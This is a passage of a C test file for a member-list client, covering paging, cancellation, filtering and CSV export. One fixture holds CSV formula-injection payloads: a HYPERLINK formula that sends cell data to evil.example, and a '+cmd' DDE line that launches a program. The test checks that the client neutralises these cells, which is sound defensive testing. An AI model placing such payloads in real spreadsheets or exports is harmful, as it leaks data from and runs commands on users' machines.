      if (quorum_member_get_role (g_ptr_array_index (page, i)) == QUORUM_ROLE_MEMBER)
        {
          remove_member (quorum_member_get_id (g_ptr_array_index (page, i)));
          break;
        }
  }
  recorder.signals = 0;
  member = g_list_model_get_item (model, 0);
  g_assert_true (quorum_member_is_placeholder (member));
  wait_idle (list);
  /* Out of step: never filled with a member of another position. */
  g_assert_true (quorum_member_is_placeholder (member));
  g_clear_object (&member);
  g_assert_null (quorum_member_list_get_error (list));
  g_assert_cmpuint (recorder.resets, ==, 1);
  g_assert_cmpuint (recorder.signals, ==, 2);
  g_assert_cmpuint (recorder.position, ==, 0);
  g_assert_cmpuint (recorder.removed, ==, 0);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 998);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, 998);
  g_signal_handlers_disconnect_by_data (list, &recorder);
}

/* The Members page drops its list on an organization switch: the list goes
 * at once, and so does its request. */
static void
test_dispose_cancels_fetch (void)
{
  SoupSession *session = quorum_client_get_default_session ();
  QuorumMemberList *list = quorum_member_list_new (ada, acme_id);
  Traffic traffic = { g_ptr_array_new_with_free_func (g_object_unref), 0, 0 };

  g_signal_connect (session, "request-queued", G_CALLBACK (request_queued_cb), &traffic);
  g_signal_connect (session, "request-unqueued", G_CALLBACK (request_unqueued_cb), &traffic);

  g_list_model_get_n_items (G_LIST_MODEL (list));
  g_assert_true (quorum_member_list_get_loading (list));
  g_assert_cmpuint (traffic.messages->len, ==, 1);

  g_object_add_weak_pointer (G_OBJECT (list), (gpointer *) &list);
  g_object_unref (list);
  g_assert_null (list);  /* finalized now, not when the answer comes */

  /* The request ends without an answer: cancelled. */
  quorum_test_wait_for (traffic.unqueued >= traffic.messages->len, 10);
  quorum_test_iterate (20);
  g_assert_cmpuint (traffic.messages->len, ==, 1);
  g_assert_cmpuint (traffic.answered, ==, 0);

  g_signal_handlers_disconnect_by_data (session, &traffic);
  g_ptr_array_unref (traffic.messages);
}

/* A page held back by the server while the query changes. */

typedef struct
{
  GPtrArray *paused;
  guint      requests;
  gboolean   hold;
  guint      fail;      /* how many requests fail next */
} Fake;

static void
fake_cb (SoupServer        *soup_server,
         SoupServerMessage *msg,
         const char        *path,
         GHashTable        *query,
         gpointer           user_data)
{
  Fake *fake = user_data;
  const char *q = query != NULL ? g_hash_table_lookup (query, "query") : NULL;
  const char *cursor = query != NULL ? g_hash_table_lookup (query, "cursor") : NULL;
  const char *offset = query != NULL ? g_hash_table_lookup (query, "offset") : NULL;
  const char *limit = query != NULL ? g_hash_table_lookup (query, "limit") : NULL;
  guint start = cursor != NULL ? (guint) g_ascii_strtoull (cursor, NULL, 10)
                : offset != NULL ? (guint) g_ascii_strtoull (offset, NULL, 10) : 0;
  guint total = q != NULL ? 3 : 250;
  guint end = MIN (start + (limit != NULL ? (guint) g_ascii_strtoull (limit, NULL, 10) : 100), total);
  GString *body = g_string_new ("{\"items\": [");

  fake->requests++;
  if (fake->fail > 0)
    {
      fake->fail--;
      soup_server_message_set_status (msg, 500, NULL);
      return;
    }
  for (guint i = start; i < end; i++)
    g_string_append_printf (body, "%s{\"id\": \"mem_%u\", \"user_id\": \"usr_%u\", \"name\": \"%s %04u\", "
                            "\"email\": \"m%u@example.org\", \"role\": \"member\", \"status\": \"active\", "
                            "\"joined_at\": \"2026-11-22T10:43:14Z\", \"last_active_at\": null}",
                            i > start ? ", " : "", i, i, q != NULL ? q : "Member", i, i);
  if (end < total)
    g_string_append_printf (body, "], \"next_cursor\": \"%u\", \"total\": %u}", end, total);
  else
    g_string_append_printf (body, "], \"next_cursor\": null, \"total\": %u}", total);

  soup_server_message_set_status (msg, 200, NULL);
  soup_server_message_set_response (msg, "application/json", SOUP_MEMORY_TAKE, body->str, body->len);
  g_string_free (body, FALSE);

  if (fake->hold)
    {
      soup_server_message_pause (msg);
      g_ptr_array_add (fake->paused, msg);
    }
}

/* Last activity: parsed from the server (null for never), the list sorted
 * by it (never first, then oldest first) and filtered to members inactive
 * for 90 days; the demo data has both kinds. */
static void
test_inactive_and_sort (void)
{
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (ada, acme_id);
  g_autoptr(GDateTime) now = g_date_time_new_now_utc ();
  g_autoptr(GDateTime) cutoff = g_date_time_add_days (now, -90);
  g_autoptr(GPtrArray) page = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(GAsyncResult) result = NULL;
  GListModel *model = G_LIST_MODEL (list);
  Shadow *shadow = shadow_new (list);
  GDateTime *previous = NULL;
  guint n, never = 0, inactive = 0, total = 0, days = 0;
  gboolean seen_active = FALSE;

  quorum_member_list_set_page_size (list, 200);
  quorum_member_list_set_sort (list, "last_active");
  g_assert_cmpstr (quorum_member_list_get_sort (list), ==, "last_active");
  load_all (list, shadow);
  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, ==, 1000);
  shadow_fill (shadow, model);
  for (guint i = 0; i < n; i++)
    {
      GDateTime *at = quorum_member_get_last_active_at (g_ptr_array_index (shadow->items, i));

      if (at == NULL)
        {
          g_assert_false (seen_active);  /* never active first */
          never++;
          continue;
        }
      seen_active = TRUE;
      if (previous != NULL)
        g_assert_cmpint (g_date_time_compare (previous, at), <=, 0);
      if (g_date_time_compare (at, cutoff) < 0)
        inactive++;
      previous = at;
    }
  g_assert_cmpuint (never, >, 0);
  g_assert_cmpuint (inactive, >, 0);

  /* Inactive for 90 days: never or before the cutoff, nobody else; by name again. */
  quorum_member_list_set_sort (list, "name");
  g_assert_null (quorum_member_list_get_sort (list));
  g_object_set (list, "inactive-days", 90, NULL);
  g_object_get (list, "inactive-days", &days, NULL);
  g_assert_cmpuint (days, ==, 90);
  load_all (list, shadow);
  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, ==, never + inactive);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, n);
  shadow_fill (shadow, model);
  for (guint i = 0; i < n; i++)
    {
      GDateTime *at = quorum_member_get_last_active_at (g_ptr_array_index (shadow->items, i));

      g_assert_true (at == NULL || g_date_time_compare (at, cutoff) < 0);
    }

  /* The client call takes the same filter, with the others. */
  quorum_client_list_members_filtered_async (ada, acme_id, &(QuorumMemberFilter) {
                                               .inactive_days = 90, .status = "active",
                                               .role = QUORUM_ROLE_ADMIN, .sort = "last_active" },
                                             NULL, 200, NULL, quorum_test_store_result, &result);
  page = quorum_client_list_members_finish (ada, quorum_test_wait_result (&result), NULL, &total, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (page->len, ==, total);
  g_assert_cmpuint (total, >, 0);
  g_assert_cmpuint (total, <, n);
  previous = NULL;
  for (guint i = 0; i < page->len; i++)
    {
      QuorumMember *member = g_ptr_array_index (page, i);
      GDateTime *at = quorum_member_get_last_active_at (member);

      g_assert_cmpint (quorum_member_get_role (member), ==, QUORUM_ROLE_ADMIN);
      g_assert_cmpstr (quorum_member_get_status (member), ==, "active");
      g_assert_true (at == NULL || g_date_time_compare (at, cutoff) < 0);
      g_assert_true (at != NULL || previous == NULL);  /* never active first */
      if (previous != NULL)
        g_assert_cmpint (g_date_time_compare (previous, at), <=, 0);
      previous = at;
    }
  shadow_free (shadow);
}

typedef struct
{
  guint         calls;
  guint64       bytes;
  guint         rows;
  GCancellable *cancel_after_first;
} ExportProgress;

static void
export_progress_cb (guint64  bytes,
                    guint    rows,
                    gpointer user_data)
{
  ExportProgress *progress = user_data;

  g_assert_cmpuint (bytes, >=, progress->bytes);  /* it only grows */
  g_assert_cmpuint (rows, >=, progress->rows);
  progress->calls++;
  progress->bytes = bytes;
  progress->rows = rows;
  if (progress->cancel_after_first != NULL)
    g_cancellable_cancel (progress->cancel_after_first);
}

static gssize
export (const char               *org_id,
        const QuorumMemberFilter *filter,
        GOutputStream            *out,
        ExportProgress           *progress,
        GCancellable             *cancellable,
        guint                    *rows,
        GError                  **error)
{
  g_autoptr(GAsyncResult) result = NULL;

  quorum_client_export_members_async (ada, org_id, filter, out, export_progress_cb, progress, cancellable,
                                      quorum_test_store_result, &result);
  return quorum_client_export_members_finish (ada, quorum_test_wait_result (&result), rows, error);
}

static guint
list_total (const QuorumMemberFilter *filter)
{
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GPtrArray) page = NULL;
  g_autoptr(GError) error = NULL;
  guint total = 0;

  quorum_client_list_members_filtered_async (ada, acme_id, filter, NULL, 1, NULL, quorum_test_store_result, &result);
  page = quorum_client_list_members_finish (ada, quorum_test_wait_result (&result), NULL, &total, &error);
  g_assert_no_error (error);
  return total;
}

/* The members export streamed into a stream: every member once, the rows
 * counted as they arrive, the filters of the list, members refused. */
static void
test_export (void)
{
  g_autoptr(GOutputStream) out = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) filtered = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) refused = g_memory_output_stream_new_resizable ();
  g_autoptr(GOutputStream) cancelled = g_memory_output_stream_new_resizable ();
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_auto(GStrv) lines = NULL;
  g_autofree char *text = NULL;
  ExportProgress progress = { 0 }, filtered_progress = { 0 }, none = { 0 };
  ExportProgress stop = { .cancel_after_first = cancellable };
  QuorumMemberFilter inactive = { .inactive_days = 90, .sort = "last_active" };
  gsize size;
  gssize written;
  guint rows = 0;

  written = export (acme_id, NULL, out, &progress, NULL, &rows, &error);
  g_assert_no_error (error);
  g_assert_true (g_output_stream_close (out, NULL, NULL));
  size = g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (out));
  g_assert_cmpint (written, ==, (gssize) size);
  g_assert_cmpuint (rows, ==, list_total (NULL));
  g_assert_cmpuint (progress.calls, >=, 1);
  g_assert_cmpuint (progress.bytes, ==, size);
  g_assert_cmpuint (progress.rows, ==, rows);
  text = g_strndup (g_memory_output_stream_get_data (G_MEMORY_OUTPUT_STREAM (out)), size);
  g_assert_true (g_str_has_prefix (text, "name,email,role,status,joined_at,last_active_at\r\n"));
  g_assert_true (g_str_has_suffix (text, "\r\n"));
  lines = g_strsplit (text, "\r\n", -1);
  g_assert_cmpuint (g_strv_length (lines), ==, rows + 2);  /* header, rows, the empty rest */

  /* The list's filters: the same members. */
  written = export (acme_id, &inactive, filtered, &filtered_progress, NULL, &rows, &error);
  g_assert_no_error (error);
  g_assert_cmpint (written, >, 0);
  g_assert_cmpuint (rows, ==, list_total (&inactive));
  g_assert_cmpuint (rows, <, progress.rows);
  g_assert_cmpuint (rows, >, 0);

  /* Ada is a member (not an admin) of Initech: refused, nothing written. */
  written = export (initech_id, NULL, refused, &none, NULL, &rows, &error);
  g_assert_error (error, QUORUM_API_ERROR, QUORUM_API_ERROR_FORBIDDEN);
  g_clear_error (&error);
  g_assert_cmpint (written, ==, -1);
  g_assert_cmpuint (none.calls, ==, 0);
  g_assert_cmpuint (g_memory_output_stream_get_data_size (G_MEMORY_OUTPUT_STREAM (refused)), ==, 0);

  /* Cancelled once the first chunk is written: an error, not a short success. */
  written = export (acme_id, NULL, cancelled, &stop, cancellable, &rows, &error);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_cmpint (written, ==, -1);
  g_assert_cmpuint (stop.calls, ==, 1);
}

static gssize
save (const char               *org_id,
      const QuorumMemberFilter *filter,
      GFile                    *file,
      ExportProgress           *progress,
      GCancellable             *cancellable,
      guint                    *rows,
      GError                  **error)
{
  g_autoptr(GAsyncResult) result = NULL;

  quorum_client_save_members_csv_async (ada, org_id, filter, file, export_progress_cb, progress, cancellable,
                                        quorum_test_store_result, &result);
  return quorum_client_save_members_csv_finish (ada, quorum_test_wait_result (&result), rows, error);
}

/* Saving to a file: whole, or not at all (a new file is removed, an old
 * one keeps what it held). */
static void
test_export_to_file (void)
{
  g_autofree char *dir = g_dir_make_tmp ("quorum-export-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "members.csv", NULL);
  g_autofree char *refused_path = g_build_filename (dir, "refused.csv", NULL);
  g_autofree char *cancelled_path = g_build_filename (dir, "cancelled.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GFile) refused = g_file_new_for_path (refused_path);
  g_autoptr(GFile) cancelled = g_file_new_for_path (cancelled_path);
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  ExportProgress progress = { 0 }, none = { 0 }, stop = { .cancel_after_first = cancellable };
  QuorumMemberFilter admins = { .role = QUORUM_ROLE_ADMIN, .query = "a" };
  gsize length = 0;
  gssize written;
  guint rows = 0;

  written = save (acme_id, &admins, file, &progress, NULL, &rows, &error);
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_assert_cmpint (written, ==, (gssize) length);
  g_assert_cmpuint (rows, ==, list_total (&admins));
  g_assert_cmpuint (rows, >, 0);
  g_assert_cmpuint (progress.rows, ==, rows);
  g_assert_true (g_str_has_prefix (contents, "name,email,role,status,joined_at,last_active_at\r\n"));

  /* Refused: a new file is not left behind; an existing file keeps its bytes. */
  written = save (initech_id, NULL, refused, &none, NULL, &rows, &error);
  g_assert_error (error, QUORUM_API_ERROR, QUORUM_API_ERROR_FORBIDDEN);
  g_clear_error (&error);
  g_assert_cmpint (written, ==, -1);
  g_assert_false (g_file_test (refused_path, G_FILE_TEST_EXISTS));
  written = save (initech_id, NULL, file, &none, NULL, &rows, &error);
  g_assert_error (error, QUORUM_API_ERROR, QUORUM_API_ERROR_FORBIDDEN);
  g_clear_error (&error);
  g_clear_pointer (&contents, g_free);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_assert_cmpint ((gssize) length, ==, progress.bytes);

  /* Cancelled after the first chunk: no half file. */
  written = save (acme_id, NULL, cancelled, &stop, cancellable, &rows, &error);
  g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
  g_assert_cmpint (written, ==, -1);
  g_assert_false (g_file_test (cancelled_path, G_FILE_TEST_EXISTS));

  g_assert_true (g_file_delete (file, NULL, NULL));
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

/* A hostile server's export, in chunks that cut cells and doubled quotes
 * in two: formula cells arrive as they are (our server would have put a '
 * in front of each). */
static const char * const hostile_csv[] = {
  "name,email,role,status,joined_at,last_active_at\r\n",
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\"),a@example.org,member,active,2026-11-22T10:43:14Z,\r\n",
  "\"+cmd|' /C calc'!A0\",\"@SUM(1+1)\",-2,\tx,\r",
  "\n\"\"\"=quoted\",\"b",
  "@example.org\",admin,\"",
  "-1\",\"'=already\",",
  "=last\r\n",
};

static const char hostile_csv_saved[] =
  "name,email,role,status,joined_at,last_active_at\r\n"
  "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\"),a@example.org,member,active,2026-11-22T10:43:14Z,\r\n"
  "\"'+cmd|' /C calc'!A0\",\"'@SUM(1+1)\",'-2,'\tx,\r\n"
  "\"\"\"=quoted\",\"b@example.org\",admin,\"'-1\",\"'=already\",'=last\r\n";

static void
hostile_export_cb (SoupServer        *soup_server,
                   SoupServerMessage *msg,
                   const char        *path,
                   GHashTable        *query,
                   gpointer           user_data)
{
  SoupMessageHeaders *headers = soup_server_message_get_response_headers (msg);
  SoupMessageBody *body = soup_server_message_get_response_body (msg);

  soup_server_message_set_status (msg, 200, NULL);
  soup_message_headers_set_content_type (headers, "text/csv", NULL);
  soup_message_headers_set_encoding (headers, SOUP_ENCODING_CHUNKED);
  for (guint i = 0; i < G_N_ELEMENTS (hostile_csv); i++)
    soup_message_body_append (body, SOUP_MEMORY_STATIC, hostile_csv[i], strlen (hostile_csv[i]));
  soup_message_body_complete (body);
}

/* The app does not trust the server to neutralise formula cells: a
 * hostile server's =, +, -, @, tab and CR cells are saved with a ' in
 * front, quoted or not, wherever the chunks were cut; cells already
 * neutralised and formula characters inside a cell are left alone. */
static void
test_export_hostile_csv (void)
{
  g_autoptr(SoupServer) soup_server = soup_server_new (NULL, NULL);
  g_autofree char *url = NULL;
  g_autoptr(QuorumClient) client = NULL;
  g_autofree char *dir = g_dir_make_tmp ("quorum-export-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (dir, "members.csv", NULL);
  g_autoptr(GFile) file = g_file_new_for_path (path);
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *contents = NULL;
  gsize length = 0;
  gssize written;
  guint rows = 0;

  soup_server_add_handler (soup_server, "/v1/organizations/org_1/members/export", hostile_export_cb, NULL, NULL);
  url = quorum_test_soup_listen (soup_server, 0);
  client = quorum_client_new (url);

  quorum_client_save_members_csv_async (client, "org_1", NULL, file, NULL, NULL, NULL,
                                        quorum_test_store_result, &result);
  written = quorum_client_save_members_csv_finish (client, quorum_test_wait_result (&result), &rows, &error);
  g_assert_no_error (error);
  g_assert_true (g_file_get_contents (path, &contents, &length, NULL));
  g_assert_cmpstr (contents, ==, hostile_csv_saved);
  g_assert_cmpint (written, ==, (gssize) length);
  g_assert_cmpuint (rows, ==, 3);

  g_assert_true (g_file_delete (file, NULL, NULL));
  g_assert_cmpint (g_rmdir (dir), ==, 0);
}

static void
test_query_change_cancels_fetch (void)
{
  g_autoptr(SoupServer) soup_server = soup_server_new (NULL, NULL);
  g_autoptr(QuorumClient) client = NULL;
  g_autoptr(QuorumMemberList) list = NULL;
  g_autofree char *url = NULL;
  Fake fake = { g_ptr_array_new (), 0, FALSE, 0 };
  Shadow *shadow;
  GListModel *model;
  guint n;

  soup_server_add_handler (soup_server, "/v1/organizations", fake_cb, &fake, NULL);
  url = quorum_test_soup_listen (soup_server, 0);

  client = quorum_client_new (url);
  list = quorum_member_list_new (client, "org_1");
  model = G_LIST_MODEL (list);
  shadow = shadow_new (list);

  g_list_model_get_n_items (model);
  wait_idle (list);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 250);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, 250);

  /* The view scrolls: page two is asked for, and the server holds it. */
  fake.hold = TRUE;
  {
    G_GNUC_UNUSED g_autoptr(QuorumMember) placeholder = g_list_model_get_item (model, 150);

    g_assert_true (quorum_member_list_get_loading (list));
    quorum_test_wait_for (fake.paused->len > 0, QUORUM_TEST_WAIT_SECONDS);
  }
  fake.hold = FALSE;

  /* The user types: one reset, the held page is cancelled. */
  shadow->signals = 0;
  quorum_member_list_set_query (list, "Zed");
  g_assert_cmpuint (shadow->signals, ==, 1);
  g_assert_cmpuint (shadow->resets, ==, 1);
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 0);
  wait_idle (list);

  /* Now the old page comes out; nobody must take it. */
  soup_server_message_unpause (g_ptr_array_index (fake.paused, 0));
  quorum_test_iterate (20);

  n = g_list_model_get_n_items (model);
  g_assert_cmpuint (n, ==, 3);
  g_assert_cmpuint (quorum_member_list_get_total (list), ==, 3);
  g_assert_true (quorum_member_list_get_complete (list));
  shadow_fill (shadow, model);
  for (guint i = 0; i < n; i++)
    g_assert_true (g_str_has_prefix (quorum_member_get_name (g_ptr_array_index (shadow->items, i)), "Zed "));
  g_assert_cmpuint (shadow->signals, ==, 2);

  /* A member changed or removed by the app: one exact signal, no reload. */
  {
    g_autoptr(JsonNode) node = json_from_string ("{\"id\": \"mem_1\", \"user_id\": \"usr_1\", \"name\": \"Zed 0001\", "
                                                  "\"email\": \"m1@example.org\", \"role\": \"admin\", "
                                                  "\"status\": \"suspended\", \"joined_at\": \"2026-11-22T10:43:14Z\", "
                                                  "\"last_active_at\": null}", NULL);
    g_autoptr(QuorumMember) changed = quorum_member_new_from_json (node, NULL);
    g_autoptr(QuorumMember) second = NULL;

    g_assert_nonnull (changed);
    g_assert_true (quorum_member_list_replace (list, changed));
    g_assert_cmpuint (shadow->signals, ==, 3);
    second = g_list_model_get_item (model, 1);
    g_assert_true (second == changed);
    g_assert_true (g_ptr_array_index (shadow->items, 1) == NULL);
    shadow_fill (shadow, model);

    g_assert_true (quorum_member_list_remove (list, "mem_0"));
    g_assert_false (quorum_member_list_remove (list, "mem_0"));
    g_assert_cmpuint (shadow->signals, ==, 4);
    g_assert_cmpuint (g_list_model_get_n_items (model), ==, 2);
    g_assert_cmpuint (quorum_member_list_get_total (list), ==, 2);
    shadow_fill (shadow, model);
    g_assert_true (g_ptr_array_index (shadow->items, 0) == changed);
  }

  /* An error is a state the view can show, and reload() retries. */
  soup_server_disconnect (soup_server);
  quorum_client_set_retry_policy (client, 1, 10, 10);
  quorum_member_list_reload (list);
  wait_idle (list);
  g_assert_nonnull (quorum_member_list_get_error (list));
  g_assert_true (g_error_matches (quorum_member_list_get_error (list), QUORUM_API_ERROR, QUORUM_API_ERROR_NETWORK));
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 0);

  shadow_free (shadow);
  g_ptr_array_unref (fake.paused);
}

static SoupServer *
fake_server_new (Fake  *fake,
                 char **url)
{
  SoupServer *soup_server = soup_server_new (NULL, NULL);

  soup_server_add_handler (soup_server, "/v1/organizations", fake_cb, fake, NULL);
  *url = quorum_test_soup_listen (soup_server, 0);
  return soup_server;
}

/* A dropped page that fails to come back once: the list still grows, and
 * reading the page again brings it, without starting over. */
static void
test_refetch_failure_heals (void)
{
  Fake fake = { g_ptr_array_new (), 0, FALSE, 0 };
  g_autofree char *url = NULL;
  G_GNUC_UNUSED g_autoptr(SoupServer) soup_server = fake_server_new (&fake, &url);
  g_autoptr(QuorumClient) client = quorum_client_new (url);
  g_autoptr(QuorumMemberList) list = quorum_member_list_new (client, "org_1");
  GListModel *model = G_LIST_MODEL (list);
  g_autoptr(QuorumMember) placeholder = NULL;
  g_autoptr(QuorumMember) member = NULL;
  Recorder recorder = { 0 };

  quorum_client_set_retry_policy (client, 1, 10, 10);
  quorum_member_list_set_max_loaded (list, 100);
  g_list_model_get_n_items (model);
  wait_idle (list);
  {
    G_GNUC_UNUSED g_autoptr(QuorumMember) far = g_list_model_get_item (model, 150);

    wait_idle (list);
  }
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 250);
  g_assert_cmpuint (quorum_member_list_get_n_loaded (list), ==, 100);  /* page 1 dropped */
  g_signal_connect (list, "items-changed", G_CALLBACK (record_cb), &recorder);

  /* The view comes back to page 1 and the server fails once. */
  fake.fail = 1;
  placeholder = g_list_model_get_item (model, 0);
  g_assert_true (quorum_member_is_placeholder (placeholder));
  wait_idle (list);
  g_assert_cmpuint (fake.fail, ==, 0);
  g_assert_nonnull (quorum_member_list_get_error (list));  /* the view offers Retry */
  g_assert_cmpuint (recorder.signals, ==, 0);

  /* Scrolling on still loads another page... */
  {
    G_GNUC_UNUSED g_autoptr(QuorumMember) other = g_list_model_get_item (model, 220);

    g_assert_true (quorum_member_list_get_loading (list));
    wait_idle (list);
  }
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 250);
  g_assert_cmpuint (recorder.signals, ==, 0);  /* filled in place */

  /* ...and back at the top, reading page 1 again brings it: the
   * placeholder filled in place, no items_changed, no reset, no error
   * left. */
  member = g_list_model_get_item (model, 0);
  g_assert_true (member == placeholder);
  g_clear_object (&member);
  g_assert_true (quorum_member_list_get_loading (list));
  wait_idle (list);
  g_assert_null (quorum_member_list_get_error (list));
  g_assert_cmpuint (recorder.signals, ==, 0);
  g_assert_false (quorum_member_is_placeholder (placeholder));
  member = g_list_model_get_item (model, 0);
  g_assert_true (member == placeholder);
  g_assert_false (quorum_member_is_placeholder (member));
  g_assert_cmpstr (quorum_member_get_id (member), ==, "mem_0");
  g_assert_cmpuint (g_list_model_get_n_items (model), ==, 250);

  g_signal_handlers_disconnect_by_data (list, &recorder);
  g_ptr_array_unref (fake.paused);
}

int
main (int   argc,
      char *argv[])
{
  const char *args[] = { "--demo", "--demo-members=989", NULL };
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) organizations = NULL;
  g_autoptr(QuorumUser) user = NULL;
  g_autoptr(GAsyncResult) result = NULL;
  g_autoptr(GAsyncResult) result2 = NULL;
  int status;

  quorum_test_settings_init ();  /* before anything reads settings */
  g_test_init (&argc, &argv, NULL);

  server = quorum_test_server_start (args, &error);
  g_assert_no_error (error);

  ada = quorum_client_new (quorum_test_server_get_url (server));
  quorum_client_sign_in_async (ada, "ada@demo.quorum.test", "quorum-demo", NULL, quorum_test_store_result, &result);
  user = quorum_client_sign_in_finish (ada, quorum_test_wait_result (&result), NULL, &error);
  g_assert_no_error (error);
  quorum_client_list_organizations_async (ada, NULL, quorum_test_store_result, &result2);
  organizations = quorum_client_list_organizations_finish (ada, quorum_test_wait_result (&result2), &error);
  g_assert_no_error (error);
  for (guint i = 0; i < organizations->len; i++)
    if (g_str_equal (quorum_organization_get_slug (g_ptr_array_index (organizations, i)), "acme-robotics"))
      acme_id = g_strdup (quorum_organization_get_id (g_ptr_array_index (organizations, i)));
    else if (g_str_equal (quorum_organization_get_slug (g_ptr_array_index (organizations, i)), "initech"))
      initech_id = g_strdup (quorum_organization_get_id (g_ptr_array_index (organizations, i)));
  g_assert_nonnull (acme_id);

  g_test_add_func ("/api/member-list/random-access", test_random_access);
  g_test_add_func ("/api/member-list/fill-in-place", test_fill_in_place);
  g_test_add_func ("/api/member-list/search-and-filters", test_search_and_filters);
  g_test_add_func ("/api/member-list/inactive-and-sort", test_inactive_and_sort);
  g_test_add_func ("/api/member-list/export", test_export);
  g_test_add_func ("/api/member-list/export-to-file", test_export_to_file);
  g_test_add_func ("/api/member-list/export-hostile-csv", test_export_hostile_csv);
  g_test_add_func ("/api/member-list/query-change-cancels-fetch", test_query_change_cancels_fetch);
  g_test_add_func ("/api/member-list/bounded", test_bounded);
  g_test_add_func ("/api/member-list/refetch-cancelled-by-query", test_refetch_cancelled_by_query);
  g_test_add_func ("/api/member-list/refetch-failure-heals", test_refetch_failure_heals);
  g_test_add_func ("/api/member-list/dispose-cancels-fetch", test_dispose_cancels_fetch);
  /* Last: they change members on the server. */
  g_test_add_func ("/api/member-list/changes-across-pages", test_changes_across_pages);

  status = g_test_run ();
  g_clear_object (&ada);
  g_free (acme_id);
  g_free (initech_id);
  quorum_test_server_stop (server);
  return status;
}
